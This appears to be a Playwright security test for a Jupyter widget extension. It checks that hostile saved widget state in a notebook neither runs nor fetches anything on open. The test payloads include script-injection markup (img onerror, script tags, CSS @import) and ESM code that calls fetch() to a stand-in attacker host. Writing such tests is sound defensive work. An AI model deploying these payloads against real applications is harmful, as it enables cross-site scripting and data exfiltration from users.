"""A notebook whose saved widget state is an attack: opening it runs and fetches nothing."""

import nbformat
import pytest
from lab import OURS
from playwright.sync_api import expect
from variants import first_of

from tfmfa_nb import __version__

VIEW = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
ELSEWHERE = "https://attacker.example/"
SCRIPT = f"window.stolen = true; fetch('{ELSEWHERE}');"
MARKUP = f"<img src='{ELSEWHERE}' onerror=\"{SCRIPT}\"><script>{SCRIPT}</script><style>@import '{ELSEWHERE}'</style>"
ESM = f"{SCRIPT} export default {{ initialize() {{ {SCRIPT} }}, render() {{ {SCRIPT} }} }};"
CSS = f"@import url('{ELSEWHERE}'); body {{ display: none; }}"
WIDGETS = ("RunCard", "SettingsForm", "VariablesForm")
# What would be drawn if any of it was taken for something to draw.
PLANTED = {
    "_esm": ESM,
    "_css": CSS,
    "_anywidget_id": "planted",
    "_dom_classes": ["jp-Dialog", "planted"],
    "layout": "IPY_MODEL_layout",
    "style": "IPY_MODEL_anywidget",
    "tooltip": MARKUP,
    "tabbable": True,
    "value": MARKUP,
    **dict.fromkeys(("type", "environment", "status", "lock_indicator_text", "error", "notes", "question"), MARKUP),
}

# Our scripts that the page has loaded.
SCRIPTS = (
    f"() => performance.getEntriesByType('resource').map(({{ name }}) => name).filter((url) => url.includes('{OURS}'))"
)


def model(module, name, version, **state):
    own = {"_model_module": module, "_model_name": f"{name}Model", "_model_module_version": version}
    view = {"_view_module": module, "_view_name": f"{name}View", "_view_module_version": version}
    return {
        "model_module": module,
        "model_name": f"{name}Model",
        "model_module_version": version,
        "state": {**own, **view, **state},
    }


MODELS = {
    "anywidget": model("anywidget", "Any", "~0.9.0", _esm=ESM, _css=CSS),
    "layout": model("@jupyter-widgets/base", "Layout", "2.0.0", width="9999px", height="9999px", visibility="hidden"),
    **{name: model("tfmfa_nb", name, __version__, **PLANTED) for name in WIDGETS},
    # Ours, with somebody else's view.
    "borrowed": model("tfmfa_nb", "RunCard", __version__, **PLANTED, _view_module="anywidget", _view_name="AnyView"),
}


@pytest.fixture
def hostile(lab, open_notebook):
    """A function that opens the notebook; with `trusted`, as if its reader had been talked into that."""

    def open_it(*, trusted):
        name = f"hostile-{'trusted' if trusted else 'untrusted'}.ipynb"
        path = lab.write(name, "card")
        notebook = nbformat.read(path, as_version=4)
        notebook.metadata["widgets"] = {STATE: {"version_major": 2, "version_minor": 0, "state": MODELS}}
        notebook.cells[0].execution_count = 1
        notebook.cells[0].outputs = [
            nbformat.v4.new_output(
                "display_data",
                {"text/plain": each, VIEW: {"version_major": 2, "version_minor": 0, "model_id": each}},
            )
            for each in MODELS
            if each != "layout"  # it is no widget, but what it does to one
        ]
        nbformat.write(notebook, path)
        if trusted:
            lab.trust(path)
        asked = []
        page = open_notebook("blank.ipynb", alone=True)
        page.page.on("request", lambda request: asked.append(request.url))
        known = page.page.evaluate(SCRIPTS)
        page.visit(name)
        # All models begin at once, the attacks with what is in the notebook. Ours need a script, which comes later.
        page.page.wait_for_function(f"(known) => ({SCRIPTS})().some((url) => !known.includes(url))", arg=known)
        page.redraw()
        return page, asked

    lab.write("blank.ipynb", "1")
    return open_it


@pytest.mark.parametrize("trusted", first_of([False, True]))
def test_what_a_notebook_has_saved_runs_nothing(hostile, trusted):
    notebook, asked = hostile(trusted=trusted)
    output = notebook.output(0)
    if trusted:
        # The widgets are restored, and drawn by our code alone.
        expect(output.locator(".tfmfa-card")).to_have_count(4)
        expect(output.locator(".tfmfa-card").first).to_be_visible()
        expect(output.get_by_text("Waiting for the kernel…").first).to_be_visible()
    notebook.screenshot(f"hostile-{'trusted' if trusted else 'untrusted'}")
    assert notebook.page.evaluate("() => window.stolen") is None
    assert [url for url in asked if "attacker" in url] == []
    assert output.locator("img, script, style, .planted, .jp-Dialog").count() == 0
    shown = output.evaluate("(node) => node.outerHTML")
    assert "attacker" not in shown
    # Its layout does not reach ours.
    for card in output.locator(".tfmfa-card").all():
        assert card.evaluate("(node) => node.parentElement.getAttribute('style')") in {None, ""}
